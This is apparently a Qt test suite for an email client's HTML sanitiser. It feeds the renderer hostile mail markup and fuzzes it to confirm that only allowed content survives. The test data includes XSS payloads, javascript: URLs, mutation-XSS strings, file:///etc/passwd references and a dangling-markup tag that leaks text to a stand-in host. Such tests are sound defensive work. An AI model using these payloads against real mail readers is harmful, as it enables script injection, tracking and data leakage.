#include "core/mime/Message.h"
#include "core/render/HtmlPage.h"
#include "tests/render/HtmlProbe.h"
#include "tests/render/PageChecker.h"

#include <QDir>
#include <QDirIterator>
#include <QRandomGenerator>
#include <QTest>

using namespace core::render;
using namespace Qt::StringLiterals;

/// Mail written to attack: whatever goes in, what comes out holds allowed elements, numbers for addresses, and figures within
/// caps (PageChecker). HTM-01 to HTM-279 as far as they are HTML.
class TestHtmlHostile : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void checkerFindsTrouble_data();
    void checkerFindsTrouble();
    void yieldsNothing_data();
    void yieldsNothing();
    void yieldsOnlyPictures_data();
    void yieldsOnlyPictures();
    void keepsAllSchemesOut_data();
    void keepsAllSchemesOut();
    void keepsToItsPlace_data();
    void keepsToItsPlace();
    void survivesMutations();
    void survivesCorpora();
};

namespace {

/// Of all looks, the first trouble.
QString troubleIn(const QString &html)
{
    const HtmlSource source = HtmlSource::parse(html);
    for (int look = 0; look < 4; ++look) {
        HtmlLook wanted;
        wanted.width = look % 2 == 0 ? 800 : 320;
        wanted.colours = look < 2 ? HtmlLook::Colours::Light : HtmlLook::Colours::Dark;
        wanted.showRemote = look != 0;
        if (const QString trouble = troubleOf(source.page(wanted)); !trouble.isEmpty())
            return trouble;
    }
    return {};
}

} // namespace

/// A checker that finds nothing would prove nothing.
void TestHtmlHostile::checkerFindsTrouble_data()
{
    QTest::addColumn<QByteArray>("body");
    for (const char *body : {"<script>x</script>",
                             "<div onclick=\"x\">",
                             "<a href=\"http://x\">",
                             "<img src=\"cid:x\">",
                             "<img src=\"image:7\">",
                             "<div style=\"background-image:url(http://x)\">",
                             "<div style=\"behavior:x\">",
                             "<div style=\"position:fixed\">",
                             "<div style=\"margin:-5px\">",
                             "<div style=\"width:99999999px\">",
                             "<div style=\"color:expression(x)\">",
                             "a > b",
                             "&nbsp;",
                             "<div>",
                             "</div>",
                             "<style>p{}</style>",
                             "<!-- x -->",
                             "<td colspan=\"9999\"></td>",
                             "<div style=\"font-size:1000px\"></div>",
                             "\x01"})
        QTest::newRow(body) << QByteArray(body);
}

void TestHtmlHostile::checkerFindsTrouble()
{
    QFETCH(QByteArray, body);
    HtmlPage page;
    page.html = "<!DOCTYPE html>\n<html><body>fine</body></html>\n";
    QCOMPARE(troubleOf(page), QString());
    page.html = "<!DOCTYPE html>\n<html><body>" + body + "</body></html>\n";
    QVERIFY(!troubleOf(page).isEmpty());
}

void TestHtmlHostile::yieldsNothing_data()
{
    QTest::addColumn<QString>("html");
    const auto row = [](const char *name, const QString &html) { QTest::newRow(name) << html; };
    row("HTM-01 applet", u"<applet code=x codebase='http://e.example/'></applet>"_s);
    row("audio", u"<audio src=http://e.example/a autoplay><source src=http://e.example/b></audio>"_s);
    row("bgsound", u"<bgsound src=http://e.example/a>"_s);
    row("css link",
        u"<link rel=stylesheet href=http://e.example/a><link rel=stylesheet href=cid:css><link rel=prefetch href=//e.example/><link rel=dns-prefetch href=//e.example>"_s);
    row("css",
        u"<style>@import url(http://e.example/a);@import 'http://e.example/b';p{behavior:url(http://e.example/c);content:url(http://e.example/d);-moz-binding:url(http://e.example/e);cursor:url(http://e.example/f);list-style-image:url(http://e.example/g);border-image:url(http://e.example/h);mask:url(http://e.example/i);shape-outside:url(http://e.example/j);filter:url(http://e.example/k)}@font-face{font-family:x;src:url(http://e.example/l)}</style><p style='font-family:x;list-style:url(http://e.example/m)'>"_s);
    row("dns", u"<meta http-equiv=x-dns-prefetch-control content=on>"_s);
    row("flash",
        u"<embed src=http://e.example/a.swf><object data=http://e.example/b type=x><param name=movie value=http://e.example/c></object>"_s);
    row("frames",
        u"<iframe src=http://e.example/></iframe><frameset><frame src=http://e.example/></frameset><portal src=http://e.example/></portal>"_s);
    row("HTM-262 srcdoc",
        u"<iframe srcdoc=\"<iframe srcdoc='<img src=http://e.example/>'></iframe>\"></iframe>"_s);
    row("image submit",
        u"<form action=http://e.example/><input type=image src=http://e.example/a formaction=http://e.example/b></form>"_s);
    row("script",
        u"<script src=http://e.example/></script><script>document.write('<img src=http://e.example/>')</script><img src=x onerror=\"new Image().src='http://e.example/'\">"_s);
    row("manifest", u"<html manifest=http://e.example/><head profile=http://e.example/>"_s);
    row("refresh",
        u"<meta http-equiv=refresh content='0;url=http://e.example/'><meta http-equiv='Content-Security-Policy' content='report-uri http://e.example/'>"_s);
    row("svg",
        u"<svg xmlns='http://www.w3.org/2000/svg'><image href=http://e.example/a /><set attributeName=href to=http://e.example/b /><feImage href=http://e.example/c /></svg><img src=\"data:image/svg+xml;base64,PHN2Zz4=\">"_s);
    row("video",
        u"<video poster=http://e.example/p src=http://e.example/v><track src=http://e.example/t></video>"_s);
    row("base", u"<base href=http://e.example/><img src=a.png><div style='background:url(b.png)'></div>"_s);
    row("other attributes",
        u"<img dynsrc=http://e.example/a lowsrc=http://e.example/b longdesc=http://e.example/c usemap=#m><a ping=http://e.example/d attributionsrc=http://e.example/e></a><menu><menuitem icon=http://e.example/f></menu><blockquote cite=http://e.example/g></blockquote>"_s);
    row("VML",
        u"<v:rect><v:fill src='http://e.example/a'/></v:rect><xml><x href=http://e.example/b></xml><!--[if gte vml 1]><v:imagedata src=http://e.example/c><![endif]-->"_s);
    row("MathML", u"<math href=http://e.example/><mi xlink:href=http://e.example/>x</mi></math>"_s);
    row("HTM-275 mutation", u"<svg></p><style><a id=\"</style><img src=http://e.example/ onerror=x>\">"_s +
                                u"</a></style></svg>"_s);
    row("HTM-275 title",
        u"<title><img src=http://e.example/></title><noembed><img src=http://e.example/></noembed><noframes><img src=http://e.example/></noframes>"_s);
    row("HTM-275 template",
        u"<template><img src=http://e.example/></template><select><option><img src=http://e.example/></select>"_s);
    row("CDATA",
        u"<![CDATA[<b>]]><?xml-stylesheet href=http://e.example/?><!ENTITY x SYSTEM 'http://e.example/'>"_s);
    row("HTM-270 unclosed", u"<img src='http://e.example/?secret text that follows"_s);
}

/// Not one picture or link, and no word of the address.
void TestHtmlHostile::yieldsNothing()
{
    QFETCH(QString, html);
    QCOMPARE(troubleIn(html), QString());
    HtmlLook look;
    look.showRemote = true;
    const HtmlPage page = HtmlSource::parse(html + u"<p>end"_s).page(look);
    if (QLatin1StringView(QTest::currentDataTag()) != "HTM-275 mutation"_L1)
        QVERIFY(page.images.empty());
    QVERIFY(page.links.empty());
    QVERIFY2(!page.html.contains("example"), page.html.constData());
    QVERIFY(!page.html.contains("script"));
}

void TestHtmlHostile::yieldsOnlyPictures_data()
{
    QTest::addColumn<QString>("html");
    QTest::newRow("img") << u"<img src=http://e.example/a>"_s;
    QTest::newRow("image") << u"<image src=http://e.example/a>"_s;
    QTest::newRow("srcset") << u"<img srcset='http://e.example/a 1x, http://e.example/b 2x'>"_s;
    QTest::newRow("picture")
        << u"<picture><source srcset=http://e.example/b><img src=http://e.example/a></picture>"_s;
    QTest::newRow("background") << u"<table background=http://e.example/a><tr><td>x</table>"_s;
    QTest::newRow("css background")
        << u"<div style=\"background: red url( 'http://e.example/a' )\">x</div>"_s;
    QTest::newRow("escaped") << u"<div style='background:\\75\\72\\6c(http://e.example/a)'>x</div>"_s;
    QTest::newRow("entities") << u"<img src='&#104;ttp&#x3A;//e.example/a'>"_s;
    QTest::newRow("tab in the scheme") << u"<img src='ht\ntp://e.example/a'>"_s;
    QTest::newRow("without spaces") << u"<img/src=http://e.example/a/alt=x>"_s;
    QTest::newRow("twice") << u"<img src=http://e.example/a src=http://e.example/b>"_s;
}

/// What may be loaded once the reader wants it, and then only what is named in the list.
void TestHtmlHostile::yieldsOnlyPictures()
{
    QFETCH(QString, html);
    QCOMPARE(troubleIn(html), QString());
    const HtmlPage page = HtmlSource::parse(html).page({});
    QCOMPARE(page.images.size(), 1u);
    QCOMPARE(page.remoteImages, 1);
    QVERIFY(page.images[0].reference.startsWith("http://e.example/a"_L1));
    QVERIFY(!page.html.contains("example"));
}

void TestHtmlHostile::keepsAllSchemesOut_data()
{
    QTest::addColumn<QString>("address");
    for (const char *address : {"ftp://e.example/",
                                "file:///etc/passwd",
                                "file:///dev/zero",
                                "/etc/passwd",
                                "smb://e.example/a",
                                "\\\\e.example\\a",
                                "qrc:/a",
                                ":/a",
                                "data:text/html,<img src=http://e.example>",
                                "data:image/svg+xml,<svg/>",
                                "data:,x",
                                "mid:a@b",
                                "imap://e.example/",
                                "mailbox:///tmp/x",
                                "news:a",
                                "about:blank",
                                "javascript:alert(1)",
                                "java&#10;script:alert(1)",
                                "JaVaScRiPt:x",
                                "vbscript:x",
                                "blob:http://e.example/a",
                                "view-source:http://e.example",
                                "jar:http://e.example!/",
                                "ms-word:x",
                                "http:",
                                "http://",
                                "http:///a",
                                "https:\\\\e.example",
                                "http:e.example",
                                "x",
                                "../a",
                                "?a",
                                "#a",
                                "chrome://a",
                                "resource://a",
                                "image:0",
                                "link:0",
                                "\x01http://",
                                "feed:http://e.example"})
        QTest::newRow(address) << QString::fromLatin1(address);
}

void TestHtmlHostile::keepsAllSchemesOut() // HTM-266, HTM-267
{
    QFETCH(QString, address);
    const QString quoted = QString(address).replace(u'"', "&quot;"_L1);
    const QString html =
        u"<a href=\"%1\">x</a><img src=\"%1\" alt=y><table background=\"%1\"><tr><td style=\"background:url(%1)\">z</table>"_s
            .arg(quoted);
    QCOMPARE(troubleIn(html), QString());
    const HtmlPage page = HtmlSource::parse(html).page({});
    QVERIFY(page.images.empty() && page.links.empty());
    QVERIFY(page.html.contains("y"));
}

void TestHtmlHostile::keepsToItsPlace_data()
{
    QTest::addColumn<QString>("style");
    for (const char *style :
         {"position:fixed;top:0;left:0;width:100%;height:100%", "position:absolute;top:-500px",
          "margin-top:-500px", "margin:-99999px", "z-index:2147483647", "transform:translate(0,-500px)",
          "width:1000000000px", "height:1000000000px", "font-size:100000000px", "padding:1000000000px",
          "line-height:99999999px", "border:99999999px solid red", "text-indent:-99999px",
          "top:-9999px;position:relative", "letter-spacing:99999px", "min-height:99999999px",
          "border-spacing:9999999px", "float:left;margin-left:-100%"})
        QTest::newRow(style) << QString::fromLatin1(style);
}

void TestHtmlHostile::keepsToItsPlace() // HTM-274
{
    QFETCH(QString, style);
    for (const char *name : {"div", "span", "p", "td", "table", "img src=cid:a"}) {
        const QString html =
            u"<table><tr><td><%1 style='%2'>text</table>"_s.arg(QString::fromLatin1(name), style);
        QCOMPARE(troubleIn(html), QString());
    }
}

void TestHtmlHostile::survivesMutations()
{
    const QString seed =
        u"<!DOCTYPE html><html><head><style>@media (max-width:600px){.a{width:100%!important}} "
        u"td>p:first-child{color:#abc}</style></head>"
        u"<body bgcolor='#fff'><table width='100%' cellpadding=4 border=1><tr><td class=a colspan=2 "
        u"style=\"background:url('cid:x') no-repeat;font:bold 12px/1.5 Arial\">"
        u"<p align=center>Hello <a "
        u"href=\"https://a.example/?x=1&amp;y=2\">there</a></p><ul><li>one<li>two</ul></td></tr></table>"
        u"<img src=http://t.example/o.gif width=1 height=1><blockquote style='border-left:1px solid'><b><i>x</b></i></blockquote></body></html>"_s;
    const QString signs = u"<>\"'=&;:#%/{}()[]!-* \n\0\u3042\U0001f600"_s;
    QRandomGenerator random(20261128);
    for (int run = 0; run < 1'500; ++run) {
        QString html = seed;
        for (int change = 0; change < 1 + run % 12; ++change) {
            const auto at = random.bounded(html.size());
            const auto length = qMin<qsizetype>(random.bounded(12), html.size() - at);
            switch (random.bounded(4)) {
            case 0: html.remove(at, length); break;
            case 1: html.insert(at, signs[random.bounded(signs.size())]); break;
            case 2: html.insert(random.bounded(html.size()), html.sliced(at, length)); break;
            default: html[at] = signs[random.bounded(signs.size())];
            }
        }
        const QString trouble = troubleIn(html);
        QVERIFY2(trouble.isEmpty(), qPrintable(trouble + u"\n"_s + html));
    }
}

void TestHtmlHostile::survivesCorpora()
{
    QString shared = qEnvironmentVariable("FUMIBAKO_SHARED");
    if (shared.isEmpty())
        shared = qEnvironmentVariable("FUMIBAKO_SOURCE_DIR") + u"/../shared"_s;
    const QString folder = shared + u"/corpora"_s;
    if (!QDir(folder).exists())
        QSKIP("The mail corpora are not here: set FUMIBAKO_SHARED to the folder that holds corpora/");
    int parts = 0;
    QDirIterator files(folder, QDir::Files, QDirIterator::Subdirectories);
    while (files.hasNext()) {
        QFile file(files.next());
        if (!file.open(QIODevice::ReadOnly) || file.size() > 10'000'000)
            continue;
        const core::mime::Message message = core::mime::Message::parse(file.readAll());
        for (std::size_t part = 0; part < message.parts().size(); ++part) {
            if (message.parts()[part].type != "text/html")
                continue;
            ++parts;
            const QString trouble = troubleIn(message.text(static_cast<int>(part)));
            QVERIFY2(trouble.isEmpty(), qPrintable(file.fileName() + u": "_s + trouble));
        }
    }
    QVERIFY(parts > 20);
}

QTEST_GUILESS_MAIN(TestHtmlHostile)
#include "tst_html_hostile.moc"
